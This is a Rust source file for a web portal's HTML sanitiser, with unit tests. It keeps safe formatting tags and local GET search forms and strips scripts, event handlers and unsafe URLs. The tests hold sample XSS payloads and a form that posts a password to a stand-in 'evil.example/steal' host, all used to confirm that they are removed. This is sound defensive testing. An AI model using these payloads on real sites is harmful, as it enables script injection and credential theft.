//! Channel HTML sanitising: what a channel returns never reaches the page executable.
//!
//! Allowed: ammonia's conservative set of formatting and structure tags, `class` on any tag,
//! `http`, `https`, `mailto` and `tel` links (relative URLs too), and **search forms**: a
//! `<form>` is always `method="get"` to a path of the portal (so it changes nothing and
//! needs no CSRF token), with `text`, `search`, `hidden` inputs, labels and submit buttons.
//! Removed: scripts, styles, event handlers, `style` attributes, frames, other form
//! controls (passwords, files…), `javascript:`/`data:` URLs, comments. Links get
//! `rel="noopener noreferrer"`.

use std::collections::HashSet;
use std::sync::LazyLock;

static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut b = ammonia::Builder::default();
    b.add_generic_attributes(["class", "lang", "title", "aria-label", "aria-hidden", "role"])
        .add_tags([
            "time",
            "figure",
            "figcaption",
            "section",
            "article",
            "header",
            "footer",
            "nav",
        ])
        .add_tags(["form", "input", "label", "button"])
        .add_tag_attributes("time", ["datetime"])
        .add_tag_attributes("a", ["hreflang"])
        .add_tag_attributes("form", ["action", "method"])
        .add_tag_attributes(
            "input",
            [
                "type",
                "name",
                "value",
                "placeholder",
                "id",
                "minlength",
                "maxlength",
                "required",
                "autocomplete",
            ],
        )
        .add_tag_attributes("label", ["for"])
        .add_tag_attributes("button", ["type"])
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("form", "method") => Some("get".into()),
            ("form", "action") => {
                let local = value.starts_with('/') && !value.starts_with("//") && !value.contains('\\');
                Some(if local { value.into() } else { "/".into() })
            }
            ("input", "type") => Some(match value.to_ascii_lowercase().as_str() {
                "search" => "search".into(),
                "hidden" => "hidden".into(),
                _ => "text".into(),
            }),
            ("button", "type") => Some("submit".into()),
            _ => Some(value.into()),
        })
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel"]))
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true);
    b
});

/// Sanitise a channel's HTML fragment.
pub fn sanitize(html: &str) -> String {
    CLEANER.clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use super::sanitize;

    #[test]
    fn scripts_handlers_and_javascript_urls_are_removed() {
        let out = sanitize(
            r#"<p class="x">hi</p><script>alert(1)</script><img src="x" onerror="alert(1)">
               <a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a>
               <div style="x">s</div><iframe src="https://e/"></iframe><svg onload="alert(1)"></svg>"#,
        );
        let lower = out.to_ascii_lowercase();
        for bad in [
            "<script",
            "onerror",
            "javascript:",
            "style=",
            "<iframe",
            "onload",
            "<svg",
        ] {
            assert!(!lower.contains(bad), "{bad} survived in {out}");
        }
        assert!(out.contains(r#"<p class="x">hi</p>"#));
    }

    #[test]
    fn search_forms_stay_local_get_forms_without_secrets() {
        let out = sanitize(
            r#"<form method="post" action="https://evil.example/steal"><label for="q">Nom</label>
               <input id="q" type="password" name="annuaire.q"><input type="hidden" name="tab" value="home">
               <input type="file" name="f"><button type="reset" onclick="x()">Go</button></form>
               <form action="/?tab=home"><input type="search" name="a.q"></form>"#,
        );
        assert!(out.contains(r#"<form method="get" action="/">"#), "{out}");
        assert!(out.contains(r#"<input id="q" type="text" name="annuaire.q">"#), "{out}");
        assert!(
            out.contains(r#"<input type="hidden" name="tab" value="home">"#),
            "{out}"
        );
        assert!(out.contains(r#"<button type="submit">Go</button>"#), "{out}");
        assert!(out.contains(r#"<form action="/?tab=home">"#), "{out}");
        for bad in ["password", "evil.example", "onclick", "post"] {
            assert!(!out.contains(bad), "{bad} survived: {out}");
        }
    }

    #[test]
    fn safe_links_keep_working_and_get_noopener() {
        let out = sanitize(r#"<a href="https://univ.fr/">u</a>"#);
        assert_eq!(out, r#"<a href="https://univ.fr/" rel="noopener noreferrer">u</a>"#);
    }
}
